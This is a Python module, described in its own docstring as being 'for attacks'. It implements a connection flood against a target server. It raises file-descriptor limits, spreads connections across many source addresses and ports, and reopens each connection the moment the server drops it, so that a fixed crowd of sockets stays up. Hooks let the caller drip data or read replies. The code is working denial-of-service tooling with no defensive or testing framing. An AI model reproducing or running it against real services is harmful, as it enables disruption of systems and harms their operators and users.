"""Many connections of one process, for attacks."""

import errno
import resource
import selectors
import socket
import time


def allow_descriptors():
    """Raises the limit of open files as far as it goes, and returns it."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


class Crowd:
    """So many connections, each made anew when the server ends it.

    `opened`, `readable` and `writable` get the connection, whose `state` is theirs; a connection is watched for being
    writable while `writable` is given and returns true.
    """

    def __init__(
            self, target, count, sources, opened=None, readable=None, writable=None, pace=None, receive_buffer=None):
        self.target = target
        self.sources = sources
        self.opened, self.readable, self.writable = opened, readable, writable
        self.receive_buffer = receive_buffer  # bytes of answers that the attacker's own system holds
        self.selector = selectors.DefaultSelector()
        self.made = 0
        self.failed = 0
        self.pace = pace  # connections a second, at most
        self.missing = count
        self.connections = set()
        self.most = 0

    def run(self, seconds, tick=None, interval=0.1):
        """Keeps the crowd up for a while, and calls `tick` in between."""
        began = time.monotonic()
        due = began
        while (now := time.monotonic()) < began + seconds:
            self._open(now - began)
            if tick and now >= due:
                due = now + interval
                tick(self)
            for key, events in self.selector.select(0.02):
                key.data.event(events)
        for connection in list(self.connections):
            connection.end()

    def _open(self, elapsed):
        # A few at a time: those that stand want their turn.
        for _ in range(min(self.missing, 256)):
            if self.pace and self.made > self.pace * elapsed:
                return
            try:
                self.connections.add(Connection(self))
            except OSError:
                self.failed += 1
                return
            self.made += 1
            self.missing -= 1
            self.most = max(self.most, len(self.connections))


class Connection:
    def __init__(self, crowd):
        self.crowd = crowd
        self.state = None
        self.socket = socket.socket()
        try:
            self.socket.setblocking(False)
            self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if crowd.receive_buffer:
                self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, crowd.receive_buffer)
            # The port is chosen when it connects, so that each address has all ports.
            self.socket.setsockopt(socket.IPPROTO_IP, getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24), 1)
            self.socket.bind((crowd.sources[crowd.made % len(crowd.sources)], 0))
            status = self.socket.connect_ex((crowd.target.host, crowd.target.port))
            if status not in (0, errno.EINPROGRESS):
                raise OSError(status, "connect")
        except OSError:
            self.socket.close()
            raise
        self.isOpen = False
        crowd.selector.register(self.socket, selectors.EVENT_WRITE, self)

    def event(self, events):
        try:
            if not self.isOpen:
                self.isOpen = True
                if self.crowd.opened:
                    self.crowd.opened(self)
                self._watch()
                return
            if events & selectors.EVENT_READ:
                self._read()
            if events & selectors.EVENT_WRITE and self.socket.fileno() >= 0:
                self._watch(self.crowd.writable and self.crowd.writable(self))
        except BlockingIOError:
            pass
        except OSError:
            self.end()

    def send(self, data):
        """Hands over what the system takes, and says how much that was."""
        try:
            return self.socket.send(data)
        except BlockingIOError:
            return 0

    def _watch(self, writes=True):
        reads = selectors.EVENT_READ if self.crowd.readable else 0
        writes = selectors.EVENT_WRITE if writes and self.crowd.writable else 0
        if reads | writes:
            self.crowd.selector.modify(self.socket, reads | writes, self)
        else:
            self.crowd.selector.unregister(self.socket)

    def _read(self):
        data = self.socket.recv(65536)
        if not data:
            self.end()
        else:
            self.crowd.readable(self, data)

    def end(self):
        """Closes it; the crowd makes another one."""
        if self not in self.crowd.connections:
            return
        self.crowd.connections.discard(self)
        self.crowd.missing += 1
        try:
            self.crowd.selector.unregister(self.socket)
        except KeyError:
            pass
        self.socket.close()
